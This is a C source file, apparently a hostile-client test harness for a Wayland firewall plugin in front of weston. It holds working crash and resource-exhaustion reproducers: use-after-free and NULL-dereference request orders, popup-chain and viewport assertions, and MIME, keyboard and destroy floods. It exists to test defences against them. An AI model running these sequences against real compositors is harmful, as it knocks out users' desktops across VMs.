/* SPDX-License-Identifier: MIT */
/*
 * Attacks on the Wayland semantics weston implements behind the plugin:
 * type-correct requests in an order or a number weston 10 does not
 * survive.  Each reproduces one finding and prints what the display did.
 */
#include <stdio.h>
#include <string.h>
#include <unistd.h>

#include "hostile.h"
#include "ivwl-protocols.h"

#define XRGB8888 1u
#define POPUP_SIZE 32

/* A session with what these attacks bind, and a toplevel or popups. */
struct sem {
	struct ivwl_hostile *h;
	uint32_t k;
	struct ivwl_hostile_globals g;
	uint32_t shm, comp, subcomp, wm_base, seat, ddm, primary, viewporter;
	uint32_t pool, buffer;		/* one 32x32 buffer for everything */
	uint32_t configure_object;	/* the xdg_surface we wait on */
	uint32_t serial;
	bool configured;
};

static uint32_t
new_id(struct sem *s)
{
	return s->h->slot[s->k].next_id++;
}

static void
on_event(void *data, const struct ivwl_hostile_event *ev)
{
	struct sem *s = data;
	struct ivwl_out out;
	uint32_t v;

	if (ev->size < 12)
		return;
	memcpy(&v, ev->args, 4);
	if (ev->object == s->configure_object &&
	    ev->opcode == IVWL_EVT_XDG_SURFACE_CONFIGURE) {
		s->serial = v;
		s->configured = true;
	} else if (ev->object == s->wm_base &&
		   ev->opcode == IVWL_EVT_XDG_WM_BASE_PING) {
		ivwl_out_reset(&out);
		ivwl_out_begin(&out, s->wm_base, IVWL_REQ_XDG_WM_BASE_PONG);
		ivwl_out_u32(&out, v);
		ivwl_out_end(&out);
		ivwl_hostile_send_wayland(s->h, s->k, &out);
	}
}

static bool
live(const struct sem *s)
{
	return s->h->slot[s->k].phase == IVWL_HOSTILE_LIVE;
}

/* Binds every global present it knows of; false without a session. */
static bool
sem_start(struct ivwl_hostile *h, uint32_t k, struct sem *s)
{
	struct ivwl_out out;

	memset(s, 0, sizeof(*s));
	s->h = h;
	s->k = k;
	if (!ivwl_hostile_session_start(h, k, &s->g, 2000) || !s->g.shm ||
	    !s->g.compositor || !s->g.wm_base)
		return false;
	ivwl_out_reset(&out);
	s->shm = new_id(s);
	ivwl_out_bind(&out, s->g.shm, "wl_shm", 1, s->shm);
	s->comp = new_id(s);
	ivwl_out_bind(&out, s->g.compositor, "wl_compositor", 4, s->comp);
	s->wm_base = new_id(s);
	ivwl_out_bind(&out, s->g.wm_base, "xdg_wm_base", 1, s->wm_base);
	if (s->g.subcompositor) {
		s->subcomp = new_id(s);
		ivwl_out_bind(&out, s->g.subcompositor, "wl_subcompositor", 1,
			      s->subcomp);
	}
	if (s->g.seat) {
		s->seat = new_id(s);
		ivwl_out_bind(&out, s->g.seat, "wl_seat", 5, s->seat);
	}
	if (s->g.data_device_manager) {
		s->ddm = new_id(s);
		ivwl_out_bind(&out, s->g.data_device_manager,
			      "wl_data_device_manager", 3, s->ddm);
	}
	if (s->g.viewporter) {
		s->viewporter = new_id(s);
		ivwl_out_bind(&out, s->g.viewporter, "wp_viewporter", 1,
			      s->viewporter);
	}
	if (s->g.primary_selection) {
		s->primary = new_id(s);
		ivwl_out_bind(&out, s->g.primary_selection,
			      "zwp_primary_selection_device_manager_v1", 1,
			      s->primary);
	}
	return ivwl_hostile_send_wayland(h, k, &out) == 0;
}

static uint32_t
sem_surface(struct sem *s, struct ivwl_out *out)
{
	uint32_t surface = new_id(s);

	ivwl_out_begin(out, s->comp, IVWL_REQ_WL_COMPOSITOR_CREATE_SURFACE);
	ivwl_out_u32(out, surface);
	ivwl_out_end(out);
	return surface;
}

static uint32_t
sem_xdg_surface(struct sem *s, struct ivwl_out *out, uint32_t surface)
{
	uint32_t xdg = new_id(s);

	ivwl_out_begin(out, s->wm_base, IVWL_REQ_XDG_WM_BASE_GET_XDG_SURFACE);
	ivwl_out_u32(out, xdg);
	ivwl_out_u32(out, surface);
	ivwl_out_end(out);
	return xdg;
}

/* A 32x32 buffer at the start of the heap, made once. */
static void
sem_buffer(struct sem *s, struct ivwl_out *out)
{
	struct ivwl_fd_desc d = ivwl_out_region_desc(s->h->layout.heap_offset,
						     IVWL_PAGE_SIZE);

	if (s->buffer)
		return;
	s->pool = new_id(s);
	ivwl_out_begin(out, s->shm, IVWL_REQ_WL_SHM_CREATE_POOL);
	ivwl_out_u32(out, s->pool);
	ivwl_out_u32(out, IVWL_PAGE_SIZE);
	ivwl_out_end(out);
	ivwl_out_fd(out, &d);
	s->buffer = new_id(s);
	ivwl_out_begin(out, s->pool, IVWL_REQ_WL_SHM_POOL_CREATE_BUFFER);
	ivwl_out_u32(out, s->buffer);
	ivwl_out_u32(out, 0);
	ivwl_out_u32(out, POPUP_SIZE);
	ivwl_out_u32(out, POPUP_SIZE);
	ivwl_out_u32(out, POPUP_SIZE * 4);
	ivwl_out_u32(out, XRGB8888);
	ivwl_out_end(out);
}

/* Sends out, waits for the configure of xdg, acks it, maps a buffer. */
static bool
sem_configure_and_map(struct sem *s, struct ivwl_out *out, uint32_t xdg,
		      uint32_t surface)
{
	int64_t end = ivwl_now_ms() + 3000;

	ivwl_out_begin(out, surface, IVWL_REQ_WL_SURFACE_COMMIT);
	ivwl_out_end(out);
	s->configure_object = xdg;
	s->configured = false;
	if (ivwl_hostile_send_wayland(s->h, s->k, out) < 0)
		return false;
	while (!s->configured && live(s) && ivwl_now_ms() < end)
		ivwl_hostile_roundtrip(s->h, s->k, on_event, s, 300);
	if (!s->configured)
		return false;
	ivwl_out_reset(out);
	ivwl_out_begin(out, xdg, IVWL_REQ_XDG_SURFACE_ACK_CONFIGURE);
	ivwl_out_u32(out, s->serial);
	ivwl_out_end(out);
	sem_buffer(s, out);
	ivwl_out_begin(out, surface, IVWL_REQ_WL_SURFACE_ATTACH);
	ivwl_out_u32(out, s->buffer);
	ivwl_out_u32(out, 0);
	ivwl_out_u32(out, 0);
	ivwl_out_end(out);
	ivwl_out_begin(out, surface, IVWL_REQ_WL_SURFACE_COMMIT);
	ivwl_out_end(out);
	return ivwl_hostile_send_wayland(s->h, s->k, out) == 0 &&
	       ivwl_hostile_roundtrip(s->h, s->k, on_event, s, 1000);
}

/* Waits up to ms for the display to end slot k; true if it did. */
static bool
closed_within(struct ivwl_hostile *h, uint32_t k, int ms)
{
	int64_t end = ivwl_now_ms() + ms;

	while (ivwl_now_ms() < end) {
		ivwl_hostile_slot_poll(h, k);
		if (h->slot[k].phase != IVWL_HOSTILE_LIVE)
			return true;
		ivwl_hostile_drain_events(h, k, NULL, NULL);
		usleep(10 * 1000);
	}
	return false;
}

/* A new connection gets its registry: the display still serves us. */
static const char *
display_answers(struct ivwl_hostile *h, uint32_t k)
{
	struct ivwl_hostile_globals g;
	bool ok = ivwl_hostile_session_start(h, k, &g, 3000);

	ivwl_hostile_slot_close(h, k);
	return ok ? "answered" : "did NOT answer";
}

/* ---- role-subsurface ------------------------------------------------ */

/*
 * create_surface A and B, xdg_wm_base.get_xdg_surface(A), then
 * wl_subcompositor.get_subsurface(A, B): weston 10 gives the xdg role
 * only at get_toplevel, takes A as a subsurface too, and at the close
 * weston_subsurface_destroy asserts (weston exits).
 */
void
ivwl_hostile_role_subsurface(struct ivwl_hostile *h)
{
	struct ivwl_out out;
	struct sem s;
	uint32_t a, b, sub;
	bool refused;

	if (!sem_start(h, 0, &s) || !s.subcomp) {
		printf("hostile-peer: role-subsurface: no session with "
		       "wl_subcompositor\n");
		return;
	}
	ivwl_out_reset(&out);
	a = sem_surface(&s, &out);
	b = sem_surface(&s, &out);
	sem_xdg_surface(&s, &out, a);
	sub = new_id(&s);
	ivwl_out_begin(&out, s.subcomp, IVWL_REQ_WL_SUBCOMPOSITOR_GET_SUBSURFACE);
	ivwl_out_u32(&out, sub);
	ivwl_out_u32(&out, a);
	ivwl_out_u32(&out, b);
	ivwl_out_end(&out);
	ivwl_hostile_send_wayland(h, 0, &out);
	refused = closed_within(h, 0, 1000);
	ivwl_hostile_slot_close(h, 0);
	usleep(300 * 1000);
	printf("hostile-peer: role-subsurface: the display %s the second role; "
	       "after the close it %s a new connection\n",
	       refused ? "refused" : "accepted", display_answers(h, 1));
}

/* ---- mime-flood ----------------------------------------------------- */

/*
 * wl_data_source.offer and its primary-selection twin with unique 4 KB
 * MIME types, no seat or focus needed: weston keeps every string until
 * the source goes, so it grows by what the VM sends.
 */
void
ivwl_hostile_mime_flood(struct ivwl_hostile *h)
{
	static char mime[4000];
	uint64_t offers = 0, sessions = 0, refused = 0;
	struct ivwl_out out;
	struct sem s;
	uint32_t k = 0, src, n;

	memset(mime, 'x', sizeof(mime) - 1);
	while (ivwl_hostile_time_left(h)) {
		k = (k + 1) % h->slots;
		if (!sem_start(h, k, &s) || !s.ddm)
			continue;
		sessions++;
		src = new_id(&s);
		ivwl_out_reset(&out);
		ivwl_out_begin(&out, s.ddm,
			IVWL_REQ_WL_DATA_DEVICE_MANAGER_CREATE_DATA_SOURCE);
		ivwl_out_u32(&out, src);
		ivwl_out_end(&out);
		ivwl_hostile_send_wayland(h, k, &out);
		while (live(&s) && ivwl_hostile_time_left(h)) {
			ivwl_out_reset(&out);
			for (n = 0; n < 8 &&
			     ivwl_out_room(&out, sizeof(mime) + 16); n++) {
				snprintf(mime, 24, "x/%016llx",
					 (unsigned long long)offers++);
				mime[strlen(mime)] = 'x';
				ivwl_out_begin(&out, src,
					       IVWL_REQ_WL_DATA_SOURCE_OFFER);
				ivwl_out_string(&out, mime);
				ivwl_out_end(&out);
			}
			if (ivwl_hostile_send_wayland(h, k, &out) < 0)
				usleep(1000);
			ivwl_hostile_drain_events(h, k, NULL, NULL);
			ivwl_hostile_slot_poll(h, k);
		}
		if (!live(&s))
			refused++;
		ivwl_hostile_slot_close(h, k);
	}
	printf("hostile-peer: mime-flood: %llu MIME types of %zu bytes offered "
	       "in %llu sessions; the display ended %llu of them\n",
	       (unsigned long long)offers, sizeof(mime) - 1,
	       (unsigned long long)sessions, (unsigned long long)refused);
}

/* ---- popup-chain ---------------------------------------------------- */

static uint32_t
sem_positioner(struct sem *s, struct ivwl_out *out)
{
	uint32_t p = new_id(s);

	ivwl_out_begin(out, s->wm_base, IVWL_REQ_XDG_WM_BASE_CREATE_POSITIONER);
	ivwl_out_u32(out, p);
	ivwl_out_end(out);
	ivwl_out_begin(out, p, IVWL_REQ_XDG_POSITIONER_SET_SIZE);
	ivwl_out_u32(out, POPUP_SIZE);
	ivwl_out_u32(out, POPUP_SIZE);
	ivwl_out_end(out);
	ivwl_out_begin(out, p, IVWL_REQ_XDG_POSITIONER_SET_ANCHOR_RECT);
	ivwl_out_u32(out, 0);
	ivwl_out_u32(out, 0);
	ivwl_out_u32(out, 1);
	ivwl_out_u32(out, 1);
	ivwl_out_end(out);
	return p;
}

/* One grabbing popup on parent (an xdg_surface); its xdg_surface. */
static uint32_t
sem_grabbing_popup(struct sem *s, uint32_t parent, uint32_t positioner)
{
	struct ivwl_out out;
	uint32_t surface, xdg, popup;

	ivwl_out_reset(&out);
	surface = sem_surface(s, &out);
	xdg = sem_xdg_surface(s, &out, surface);
	popup = new_id(s);
	ivwl_out_begin(&out, xdg, IVWL_REQ_XDG_SURFACE_GET_POPUP);
	ivwl_out_u32(&out, popup);
	ivwl_out_u32(&out, parent);
	ivwl_out_u32(&out, positioner);
	ivwl_out_end(&out);
	ivwl_out_begin(&out, popup, IVWL_REQ_XDG_POPUP_GRAB);
	ivwl_out_u32(&out, s->seat);
	ivwl_out_u32(&out, 0);
	ivwl_out_end(&out);
	return sem_configure_and_map(s, &out, xdg, surface) ? xdg : 0;
}

/*
 * A mapped toplevel, then --count nested popups (2 by default), each
 * with xdg_popup.grab: then the app closes its slot.  libwayland ends
 * the client's objects in id order, parent popups first, and weston 10
 * posts "not the topmost popup" through the xdg_wm_base it already
 * destroyed: a crash.  A count past the plugin's nesting bound makes the
 * plugin close the connection itself, the same way.
 */
static void
popup_chain(struct ivwl_hostile *h, bool hold)
{
	uint32_t want = h->count ? h->count : 2, made = 0, parent, positioner;
	struct ivwl_out out;
	uint32_t surface, top;
	struct sem s;
	bool ended;

	if (!sem_start(h, 0, &s) || !s.seat) {
		printf("hostile-peer: popup-chain: no session with a seat\n");
		return;
	}
	ivwl_out_reset(&out);
	surface = sem_surface(&s, &out);
	parent = sem_xdg_surface(&s, &out, surface);
	top = new_id(&s);
	ivwl_out_begin(&out, parent, IVWL_REQ_XDG_SURFACE_GET_TOPLEVEL);
	ivwl_out_u32(&out, top);
	ivwl_out_end(&out);
	ivwl_out_begin(&out, top, IVWL_REQ_XDG_TOPLEVEL_SET_TITLE);
	ivwl_out_string(&out, "popup-chain");
	ivwl_out_end(&out);
	positioner = sem_positioner(&s, &out);
	if (!sem_configure_and_map(&s, &out, parent, surface)) {
		printf("hostile-peer: popup-chain: the toplevel never mapped\n");
		return;
	}
	while (made < want && live(&s) && ivwl_hostile_time_left(h)) {
		parent = sem_grabbing_popup(&s, parent, positioner);
		if (!parent)
			break;
		made++;
	}
	ended = !live(&s);
	printf("hostile-peer: popup-chain: %u grabbing popups nested; %s\n",
	       made, ended ? "the display closed the connection" :
	       hold ? "held until the end" : "the app closes its slot");
	fflush(stdout);
	while (hold && live(&s) && ivwl_hostile_time_left(h))
		ivwl_hostile_roundtrip(h, 0, on_event, &s, 200);
	if (!ended)
		ivwl_hostile_slot_close(h, 0);
	usleep(500 * 1000);
	printf("hostile-peer: popup-chain: after the close the display %s a "
	       "new connection\n", display_answers(h, 1));
}

void
ivwl_hostile_popup_chain(struct ivwl_hostile *h)
{
	popup_chain(h, false);
}

/* The chain kept on screen until --seconds run out: for a shutdown. */
void
ivwl_hostile_popup_hold(struct ivwl_hostile *h)
{
	popup_chain(h, true);
}

/* ---- keyboard-flood ------------------------------------------------- */

/*
 * Every slot loops on wl_seat.get_keyboard and never reads its events:
 * each keyboard costs weston a keymap fd until the event is read, so
 * weston runs out of fds and libwayland kills clients of every VM.
 */
void
ivwl_hostile_keyboard_flood(struct ivwl_hostile *h)
{
	uint64_t keyboards = 0, sessions = 0, ended = 0;
	struct ivwl_out out;
	struct sem s[IVWL_SLOT_COUNT];
	uint32_t k;

	memset(s, 0, sizeof(s));
	while (ivwl_hostile_time_left(h)) {
		for (k = 0; k < h->slots && ivwl_hostile_time_left(h); k++) {
			if (!s[k].seat || !live(&s[k])) {
				if (s[k].seat) {
					ended++;
					ivwl_hostile_slot_close(h, k);
				}
				if (!sem_start(h, k, &s[k]) || !s[k].seat) {
					s[k].seat = 0;
					continue;
				}
				sessions++;
			}
			ivwl_out_reset(&out);
			while (ivwl_out_room(&out, 12)) {
				ivwl_out_begin(&out, s[k].seat,
					       IVWL_REQ_WL_SEAT_GET_KEYBOARD);
				ivwl_out_u32(&out, new_id(&s[k]));
				ivwl_out_end(&out);
				keyboards++;
			}
			ivwl_hostile_send_wayland(h, k, &out);
			ivwl_hostile_slot_poll(h, k);
		}
	}
	printf("hostile-peer: keyboard-flood: %llu keyboards asked for in %llu "
	       "sessions; the display ended %llu of them\n",
	       (unsigned long long)keyboards, (unsigned long long)sessions,
	       (unsigned long long)ended);
}

/* ---- inert-requests ------------------------------------------------- */

/* A toplevel on slot k, mapped when map is true; its ids. */
struct sem_window {
	uint32_t surface, xdg, top;
};

static bool
sem_toplevel(struct sem *s, struct sem_window *w, bool map)
{
	struct ivwl_out out;

	ivwl_out_reset(&out);
	w->surface = sem_surface(s, &out);
	w->xdg = sem_xdg_surface(s, &out, w->surface);
	w->top = new_id(s);
	ivwl_out_begin(&out, w->xdg, IVWL_REQ_XDG_SURFACE_GET_TOPLEVEL);
	ivwl_out_u32(&out, w->top);
	ivwl_out_end(&out);
	if (map)
		return sem_configure_and_map(s, &out, w->xdg, w->surface);
	return ivwl_hostile_send_wayland(s->h, s->k, &out) == 0;
}

/* One request with up to four word arguments. */
static void
sem_send(struct sem *s, uint32_t object, uint16_t opcode, int nargs,
	 uint32_t a, uint32_t b, uint32_t c, uint32_t d)
{
	uint32_t args[4] = { a, b, c, d };
	struct ivwl_out out;
	int i;

	ivwl_out_reset(&out);
	ivwl_out_begin(&out, object, opcode);
	for (i = 0; i < nargs; i++)
		ivwl_out_u32(&out, args[i]);
	ivwl_out_end(&out);
	ivwl_hostile_send_wayland(s->h, s->k, &out);
}

/* One way to reach state weston freed, on a fresh session. */
struct variant {
	const char *name;
	bool (*attack)(struct sem *s);
};

/* wl_surface first, then a request on its toplevel. */
static bool
surface_gone(struct sem *s)
{
	struct sem_window w;

	sem_toplevel(s, &w, false);
	sem_send(s, w.surface, IVWL_REQ_WL_SURFACE_DESTROY, 0, 0, 0, 0, 0);
	sem_send(s, w.top, IVWL_REQ_XDG_TOPLEVEL_SET_MIN_SIZE, 2, 1, 1, 0, 0);
	return true;
}

/* the toplevel, then get_toplevel again on its xdg_surface */
static bool
role_gone(struct sem *s)
{
	struct sem_window w;

	sem_toplevel(s, &w, false);
	sem_send(s, w.top, IVWL_REQ_XDG_TOPLEVEL_DESTROY, 0, 0, 0, 0, 0);
	sem_send(s, w.xdg, IVWL_REQ_XDG_SURFACE_GET_TOPLEVEL, 1, new_id(s), 0,
		 0, 0);
	return true;
}

/* xdg_wm_base, then ack_configure on one of its surfaces */
static bool
wm_base_gone(struct sem *s)
{
	struct sem_window w;

	sem_toplevel(s, &w, false);
	sem_send(s, s->wm_base, IVWL_REQ_XDG_WM_BASE_DESTROY, 0, 0, 0, 0, 0);
	sem_send(s, w.xdg, IVWL_REQ_XDG_SURFACE_ACK_CONFIGURE, 1, 1, 0, 0, 0);
	return true;
}

/* the popup's parent, then a commit of the popup */
static bool
popup_parent_gone(struct sem *s)
{
	struct sem_window w, child;
	uint32_t positioner, popup;
	struct ivwl_out out;

	if (!sem_toplevel(s, &w, true))
		return false;
	ivwl_out_reset(&out);
	positioner = sem_positioner(s, &out);
	child.surface = sem_surface(s, &out);
	child.xdg = sem_xdg_surface(s, &out, child.surface);
	popup = new_id(s);
	ivwl_out_begin(&out, child.xdg, IVWL_REQ_XDG_SURFACE_GET_POPUP);
	ivwl_out_u32(&out, popup);
	ivwl_out_u32(&out, w.xdg);
	ivwl_out_u32(&out, positioner);
	ivwl_out_end(&out);
	if (!sem_configure_and_map(s, &out, child.xdg, child.surface))
		return false;
	sem_send(s, w.top, IVWL_REQ_XDG_TOPLEVEL_DESTROY, 0, 0, 0, 0, 0);
	sem_send(s, w.xdg, IVWL_REQ_XDG_SURFACE_DESTROY, 0, 0, 0, 0, 0);
	sem_send(s, child.surface, IVWL_REQ_WL_SURFACE_COMMIT, 0, 0, 0, 0, 0);
	return true;
}

/* two subsurfaces of one parent, the parent goes, then place_above */
static bool
subsurface_parent_gone(struct sem *s)
{
	uint32_t parent, child, sibling, sub;
	struct ivwl_out out;

	ivwl_out_reset(&out);
	parent = sem_surface(s, &out);
	child = sem_surface(s, &out);
	sibling = sem_surface(s, &out);
	sub = new_id(s);
	ivwl_out_begin(&out, s->subcomp, IVWL_REQ_WL_SUBCOMPOSITOR_GET_SUBSURFACE);
	ivwl_out_u32(&out, sub);
	ivwl_out_u32(&out, child);
	ivwl_out_u32(&out, parent);
	ivwl_out_end(&out);
	ivwl_out_begin(&out, s->subcomp, IVWL_REQ_WL_SUBCOMPOSITOR_GET_SUBSURFACE);
	ivwl_out_u32(&out, new_id(s));
	ivwl_out_u32(&out, sibling);
	ivwl_out_u32(&out, parent);
	ivwl_out_end(&out);
	ivwl_hostile_send_wayland(s->h, s->k, &out);
	sem_send(s, parent, IVWL_REQ_WL_SURFACE_DESTROY, 0, 0, 0, 0, 0);
	sem_send(s, sub, IVWL_REQ_WL_SUBSURFACE_PLACE_ABOVE, 1, sibling, 0, 0,
		 0);
	return true;
}

static const struct variant inert_variants[] = {
	{ "wl_surface destroyed under its toplevel", surface_gone },
	{ "toplevel destroyed, xdg_surface reused", role_gone },
	{ "xdg_wm_base destroyed under its surfaces", wm_base_gone },
	{ "popup's parent destroyed under it", popup_parent_gone },
	{ "subsurface's parent destroyed, then place_above",
	  subsurface_parent_gone },
};

/*
 * Runs each variant of table on a slot of its own (--count N: the N-th
 * alone) and says whether the display refused it and still answers.
 */
static void
run_variants(struct ivwl_hostile *h, const char *mode,
	     const struct variant *table, uint32_t n)
{
	uint32_t v, k, first = 0, end = n;
	struct sem s;
	bool refused;

	if (h->count >= 1 && h->count <= n) {
		first = h->count - 1;
		end = h->count;
	}
	for (v = first; v < end && ivwl_hostile_time_left(h); v++) {
		k = v % h->slots;
		if (!sem_start(h, k, &s) || !s.subcomp) {
			printf("hostile-peer: %s: no session\n", mode);
			return;
		}
		if (!table[v].attack(&s)) {
			printf("hostile-peer: %s: %s: could not be set up\n",
			       mode, table[v].name);
			ivwl_hostile_slot_close(h, k);
			continue;
		}
		ivwl_hostile_roundtrip(h, k, on_event, &s, 500);
		refused = closed_within(h, k, 1000);
		ivwl_hostile_slot_close(h, k);
		usleep(200 * 1000);
		printf("hostile-peer: %s: %s: the display %s it; then it %s a "
		       "new connection\n", mode, table[v].name,
		       refused ? "refused" : "accepted",
		       display_answers(h, (k + 1) % h->slots));
		fflush(stdout);
	}
}

/*
 * Requests on xdg and subsurface objects whose state weston 10 already
 * freed: it dereferences NULL (the SEGV at 0x28 or 0x38 in
 * libweston-desktop) or, for a popup whose parent is gone, writes into
 * freed memory.
 */
void
ivwl_hostile_inert_requests(struct ivwl_hostile *h)
{
	run_variants(h, "inert-requests", inert_variants,
		     sizeof(inert_variants) / sizeof(inert_variants[0]));
}

/* ---- fuzz-findings -------------------------------------------------- */

/* set_parent to a toplevel never committed: desktop-shell has no window
 * for it yet and dereferences NULL (SEGV at 0x40). */
static bool
parent_uncommitted(struct sem *s)
{
	struct sem_window a, b;

	sem_toplevel(s, &a, false);
	sem_toplevel(s, &b, false);
	sem_send(s, b.top, IVWL_REQ_XDG_TOPLEVEL_SET_PARENT, 1, a.top, 0, 0,
		 0);
	return true;
}

/*
 * A viewport source whose height is not whole, the viewport destroyed,
 * then a commit: weston 10 forgot the width but not the height, and
 * asserts (surface->viewport_resource) posting an error through the
 * gone viewport.
 */
static bool
viewport_fraction(struct sem *s)
{
	struct sem_window w;
	uint32_t vp;

	if (!s->viewporter || !sem_toplevel(s, &w, true))
		return false;
	vp = new_id(s);
	sem_send(s, s->viewporter, IVWL_REQ_WP_VIEWPORTER_GET_VIEWPORT, 2, vp,
		 w.surface, 0, 0);
	/* 1 x 1.5 of the 32 x 32 buffer, in wl_fixed */
	sem_send(s, vp, IVWL_REQ_WP_VIEWPORT_SET_SOURCE, 4, 0, 0, 256,
		 256 + 128);
	sem_send(s, vp, IVWL_REQ_WP_VIEWPORT_DESTROY, 0, 0, 0, 0, 0);
	sem_send(s, w.surface, IVWL_REQ_WL_SURFACE_ATTACH, 3, s->buffer, 0, 0,
		 0);
	sem_send(s, w.surface, IVWL_REQ_WL_SURFACE_COMMIT, 0, 0, 0, 0, 0);
	return true;
}

static const struct variant fuzz_variants[] = {
	{ "set_parent to a toplevel never committed", parent_uncommitted },
	{ "viewport with a fractional source destroyed, then a commit",
	  viewport_fraction },
};

/*
 * Legitimate-looking requests weston 10 does not survive, found by the
 * Wayland fuzzer: the plugin makes them harmless (rewrites or requests
 * of its own) rather than refusing them, so weston must answer after.
 */
void
ivwl_hostile_fuzz_findings(struct ivwl_hostile *h)
{
	run_variants(h, "fuzz-findings", fuzz_variants,
		     sizeof(fuzz_variants) / sizeof(fuzz_variants[0]));
}

/* ---- destroy-storm -------------------------------------------------- */

#define STORM_BINDS 14000u	/* model objects, within the budgets */
#define STORM_IDS 2000u		/* surfaces per round, ids reused */
#define STORM_SLOTS 4u		/* their objects within the VM's budget */

/*
 * Fills a slot's model with objects (xdg_wm_base bound again and
 * again), then creates and destroys surfaces as fast as the ring takes
 * them: a firewall that walks its whole model on every destroy spends
 * seconds per wake-up, and every VM's windows stall.
 */
/* Sends out, waiting while the ring is full; false once the slot ended. */
static bool
storm_send(struct sem *s, const struct ivwl_out *out)
{
	while (ivwl_hostile_send_wayland(s->h, s->k, out) < 0) {
		ivwl_hostile_slot_poll(s->h, s->k);
		if (!live(s) || !ivwl_hostile_time_left(s->h))
			return false;
		usleep(1000);
	}
	return true;
}

static bool
storm_fill(struct sem *s)
{
	struct ivwl_out out;
	uint32_t n = 0;

	while (n < STORM_BINDS && live(s) && ivwl_hostile_time_left(s->h)) {
		ivwl_out_reset(&out);
		while (n < STORM_BINDS && ivwl_out_room(&out, 48)) {
			ivwl_out_bind(&out, s->g.wm_base, "xdg_wm_base", 1,
				      new_id(s));
			n++;
		}
		if (!storm_send(s, &out))
			return false;
	}
	return n == STORM_BINDS &&
	       ivwl_hostile_roundtrip(s->h, s->k, NULL, NULL, 10000);
}

static uint64_t
storm_round(struct sem *s, uint32_t first)
{
	struct ivwl_out out;
	uint32_t id = first;
	uint64_t n = 0;

	while (id < first + STORM_IDS && live(s)) {
		ivwl_out_reset(&out);
		while (id < first + STORM_IDS && ivwl_out_room(&out, 20)) {
			ivwl_out_begin(&out, s->comp,
				       IVWL_REQ_WL_COMPOSITOR_CREATE_SURFACE);
			ivwl_out_u32(&out, id);
			ivwl_out_end(&out);
			ivwl_out_begin(&out, id, IVWL_REQ_WL_SURFACE_DESTROY);
			ivwl_out_end(&out);
			id++;
			n++;
		}
		if (!storm_send(s, &out))
			break;
	}
	return n;
}

void
ivwl_hostile_destroy_storm(struct ivwl_hostile *h)
{
	uint32_t nslots = h->slots < STORM_SLOTS ? h->slots : STORM_SLOTS;
	uint32_t first[STORM_SLOTS], k, ready = 0;
	struct sem s[STORM_SLOTS];
	uint64_t destroys = 0;
	int64_t t, worst = 0;

	for (k = 0; k < nslots; k++) {
		if (!sem_start(h, k, &s[k]) || !storm_fill(&s[k]))
			break;
		first[k] = s[k].h->slot[k].next_id;
		s[k].h->slot[k].next_id += STORM_IDS;
		ready++;
	}
	printf("hostile-peer: destroy-storm: %u slots with %u objects each\n",
	       ready, STORM_BINDS);
	fflush(stdout);
	while (ready && ivwl_hostile_time_left(h)) {
		for (k = 0; k < ready; k++)
			destroys += storm_round(&s[k], first[k]);
		/* the ids are free again once weston said delete_id */
		t = ivwl_now_ms();
		for (k = 0; k < ready; k++)
			if (live(&s[k]))
				ivwl_hostile_roundtrip(h, k, NULL, NULL, 30000);
		if (ivwl_now_ms() - t > worst)
			worst = ivwl_now_ms() - t;
	}
	printf("hostile-peer: destroy-storm: %llu surfaces destroyed, slowest "
	       "round of roundtrips %lld ms\n", (unsigned long long)destroys,
	       (long long)worst);
}

/* ---- budget-fill ---------------------------------------------------- */

/*
 * Every budget of the firewall filled to its limit, never past it (a
 * refusal would end the connection and weston would free it all), on
 * every slot: what weston keeps for a VM at worst.  The limits are the
 * firewall's (plugin/firewall-model.h); the VM-wide ones are shared out
 * between the slots.
 */
#define FILL_CONN_OBJECTS 16384u
#define FILL_VM_OBJECTS 65536u
#define FILL_CONN_SURFACES 512u
#define FILL_VM_SURFACES 2048u
#define FILL_CONN_REGIONS 256u
#define FILL_MAX_RECTS 1024u
#define FILL_CONN_RECTS 16384u
#define FILL_CONN_MIME_BYTES (64u << 10)
#define FILL_VM_MIME_BYTES (512u << 10)
#define FILL_MIME_COST (255u + 32u)
#define FILL_MIME_PER_SOURCE 128u
#define FILL_CONN_CALLBACKS 1024u
#define FILL_CONN_POSITIONERS 64u
/* objects a session takes before filling: registry, sync, the binds */
#define FILL_SESSION_OBJECTS 16u

struct fill {
	struct sem s;
	uint32_t objects;	/* made on this slot, the session's too */
	uint32_t share;		/* of the VM's objects it may make */
};

/* Queues one message; sends the record when full.  False once dead. */
static bool
fill_room(struct fill *f, struct ivwl_out *out, uint32_t bytes)
{
	if (ivwl_out_room(out, bytes))
		return true;
	if (!storm_send(&f->s, out))
		return false;
	ivwl_out_reset(out);
	return true;
}

/* A new object of the message (object, opcode); 0 past the share. */
static uint32_t
fill_new(struct fill *f, struct ivwl_out *out, uint32_t object,
	 uint16_t opcode)
{
	uint32_t id;

	if (f->objects >= f->share)
		return 0;
	id = new_id(&f->s);
	ivwl_out_begin(out, object, opcode);
	ivwl_out_u32(out, id);
	ivwl_out_end(out);
	f->objects++;
	return id;
}

/* Surfaces, each with frame callbacks weston keeps (never shown). */
static bool
fill_surfaces(struct fill *f, struct ivwl_out *out, uint32_t surfaces)
{
	uint32_t i, callbacks = 0, surface = 0;

	for (i = 0; i < surfaces; i++) {
		if (!fill_room(f, out, 16))
			return false;
		surface = fill_new(f, out, f->s.comp,
				   IVWL_REQ_WL_COMPOSITOR_CREATE_SURFACE);
	}
	while (surface && callbacks < FILL_CONN_CALLBACKS) {
		if (!fill_room(f, out, 24))
			return false;
		if (!fill_new(f, out, surface, IVWL_REQ_WL_SURFACE_FRAME))
			break;
		ivwl_out_begin(out, surface, IVWL_REQ_WL_SURFACE_COMMIT);
		ivwl_out_end(out);
		callbacks++;
	}
	return true;
}

/* Regions of 1024 disjoint rectangles, up to the connection's total. */
static bool
fill_regions(struct fill *f, struct ivwl_out *out)
{
	uint32_t rects = 0, region = 0, n = 0;

	while (rects < FILL_CONN_RECTS) {
		if (!fill_room(f, out, 40))
			return false;
		if (rects % FILL_MAX_RECTS == 0)
			region = fill_new(f, out, f->s.comp,
				IVWL_REQ_WL_COMPOSITOR_CREATE_REGION);
		if (!region)
			break;
		ivwl_out_begin(out, region, IVWL_REQ_WL_REGION_ADD);
		ivwl_out_u32(out, (n % 64) * 4);
		ivwl_out_u32(out, (n / 64) * 4);
		ivwl_out_u32(out, 2);
		ivwl_out_u32(out, 2);
		ivwl_out_end(out);
		rects++;
		n = (n + 1) % FILL_MAX_RECTS;
	}
	return true;
}

/* MIME types of 255 bytes, the connection's share of the VM's. */
static bool
fill_mime(struct fill *f, struct ivwl_out *out, uint32_t bytes)
{
	char mime[256];
	uint32_t used = 0, types = 0, source = 0;

	memset(mime, 'm', sizeof(mime) - 1);
